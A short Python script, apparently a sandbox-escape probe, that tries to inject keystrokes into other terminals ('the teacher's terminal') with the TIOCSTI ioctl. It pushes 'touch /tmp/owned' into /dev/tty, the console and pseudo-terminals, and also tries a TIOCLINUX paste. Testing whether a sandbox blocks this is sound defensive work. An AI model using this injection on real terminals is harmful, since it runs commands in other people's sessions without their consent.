"""Types commands into the teacher's terminal, if it can find one."""

import fcntl
import glob

from prelude import attempt, os, report_and_serve


def push(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    for letter in b"touch /tmp/owned\n":
        fcntl.ioctl(fd, 0x5412, bytes([letter]))
    return "typed"


for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/proc/self/fd/0", "/proc/self/fd/1",
             *glob.glob("/dev/pts/*")):  # fmt: skip
    attempt(f"type into {path}", push, path)
master, slave = os.openpty()
attempt("type into a terminal of its own", lambda: fcntl.ioctl(slave, 0x5412, b"x") or "typed")
attempt("paste", lambda: fcntl.ioctl(slave, 0x541C, b"\x03") or "pasted")
report_and_serve()
